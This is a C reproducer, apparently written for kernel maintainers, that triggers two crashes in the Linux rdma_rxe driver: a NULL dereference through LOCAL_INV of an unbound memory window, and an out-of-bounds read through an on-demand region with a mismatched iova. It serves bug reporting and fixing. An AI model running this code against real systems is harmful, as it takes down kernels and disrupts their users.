// SPDX-License-Identifier: GPL-2.0
/*
 * Two ways in which a program ends a kernel that has rdma_rxe (7.3.4, and earlier), as the rows of
 * Documentation/semantics.rst have found them. For its maintainers; it needs nothing of softmr:
 *
 *	cc -o crashes crashes.c -libverbs
 *	modprobe rdma_rxe && rdma link add rxe0 type rxe netdev eth0
 *	./crashes rxe0 1 invalidate	(1: the index of a RoCE v2 GID)
 *
 * invalidate: LOCAL_INV of a memory window of type 2 that is not bound. rxe_invalidate_mw() uses
 *	the region of the window, which is NULL.
 * iova: a SEND from an on-demand region whose iova is not its address. rxe_odp_mr_copy() takes
 *	the iova for an address, and reads behind the table of pages.
 */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <infiniband/verbs.h>

#define PAGE	4096
#define IOVA	0x123456789000ull

static struct ibv_context *ctx;
static struct ibv_pd *pd;
static struct ibv_cq *cq;
static struct ibv_qp *qp;

static void check(int ok, const char *what)
{
	if (ok)
		return;
	fprintf(stderr, "%s: %s\n", what, strerror(errno));
	exit(1);
}

static void open_device(const char *name)
{
	struct ibv_device **list = ibv_get_device_list(NULL), **d = list;

	check(list != NULL, "devices");
	while (*d && strcmp(ibv_get_device_name(*d), name))
		d++;
	check(*d != NULL, name);
	ctx = ibv_open_device(*d);
	check(ctx != NULL, name);
	pd = ibv_alloc_pd(ctx);
	check(pd != NULL, "PD");
	cq = ibv_create_cq(ctx, 16, NULL, NULL, 0);
	check(cq != NULL, "CQ");
}

/* An RC QP that is connected to itself */
static void open_qp(int index)
{
	int access = IBV_ACCESS_LOCAL_WRITE | IBV_ACCESS_REMOTE_WRITE | IBV_ACCESS_MW_BIND;
	struct ibv_qp_init_attr init = {
		.send_cq = cq, .recv_cq = cq, .qp_type = IBV_QPT_RC, .sq_sig_all = 1,
		.cap = { .max_send_wr = 4, .max_recv_wr = 4, .max_send_sge = 1, .max_recv_sge = 1 },
	};
	struct ibv_qp_attr attr = {
		.qp_state = IBV_QPS_INIT, .port_num = 1, .qp_access_flags = access,
	};

	qp = ibv_create_qp(pd, &init);
	check(qp != NULL, "QP");
	check(!ibv_modify_qp(qp, &attr, IBV_QP_STATE | IBV_QP_PKEY_INDEX | IBV_QP_PORT |
			     IBV_QP_ACCESS_FLAGS), "INIT");
	attr = (struct ibv_qp_attr){
		.qp_state = IBV_QPS_RTR, .path_mtu = IBV_MTU_1024, .dest_qp_num = qp->qp_num,
		.max_dest_rd_atomic = 1, .min_rnr_timer = 1,
		.ah_attr = { .is_global = 1, .port_num = 1,
			     .grh = { .sgid_index = index, .hop_limit = 64 } },
	};
	check(!ibv_query_gid(ctx, 1, index, &attr.ah_attr.grh.dgid), "GID");
	check(!ibv_modify_qp(qp, &attr, IBV_QP_STATE | IBV_QP_AV | IBV_QP_PATH_MTU |
			     IBV_QP_DEST_QPN | IBV_QP_RQ_PSN | IBV_QP_MAX_DEST_RD_ATOMIC |
			     IBV_QP_MIN_RNR_TIMER), "RTR");
	attr = (struct ibv_qp_attr){
		.qp_state = IBV_QPS_RTS, .timeout = 14, .retry_cnt = 7, .rnr_retry = 7,
		.max_rd_atomic = 1,
	};
	check(!ibv_modify_qp(qp, &attr, IBV_QP_STATE | IBV_QP_TIMEOUT | IBV_QP_RETRY_CNT |
			     IBV_QP_RNR_RETRY | IBV_QP_SQ_PSN | IBV_QP_MAX_QP_RD_ATOMIC), "RTS");
}

/* Post it, and say how it completes */
static void post(struct ibv_send_wr *wr)
{
	struct ibv_send_wr *bad;
	struct ibv_wc wc;

	check(!ibv_post_send(qp, wr, &bad), "post");
	while (!ibv_poll_cq(cq, 1, &wc))
		;
	printf("the kernel lives: %s\n", ibv_wc_status_str(wc.status));
}

static void invalidate(void)
{
	struct ibv_mw *mw = ibv_alloc_mw(pd, IBV_MW_TYPE_2);
	struct ibv_send_wr wr = { .opcode = IBV_WR_LOCAL_INV };

	check(mw != NULL, "window");
	wr.invalidate_rkey = mw->rkey;
	post(&wr);
}

static void iova(void)
{
	void *p = aligned_alloc(PAGE, PAGE);
	struct ibv_sge sge = { .addr = IOVA, .length = 64 };
	struct ibv_send_wr wr = { .opcode = IBV_WR_SEND, .sg_list = &sge, .num_sge = 1 };
	struct ibv_mr *mr;

	check(p != NULL, "memory");
	memset(p, 1, PAGE);
	mr = ibv_reg_mr_iova(pd, p, PAGE, IOVA, IBV_ACCESS_LOCAL_WRITE | IBV_ACCESS_ON_DEMAND);
	check(mr != NULL, "region");
	sge.lkey = mr->lkey;
	post(&wr);
}

int main(int argc, char **argv)
{
	if (argc != 4 || (strcmp(argv[3], "invalidate") && strcmp(argv[3], "iova"))) {
		fprintf(stderr, "usage: %s DEVICE GID-INDEX invalidate|iova\n", argv[0]);
		return 2;
	}
	open_device(argv[1]);
	open_qp(atoi(argv[2]));
	if (argv[3][1] == 'n')
		invalidate();
	else
		iova();
	return 0;
}
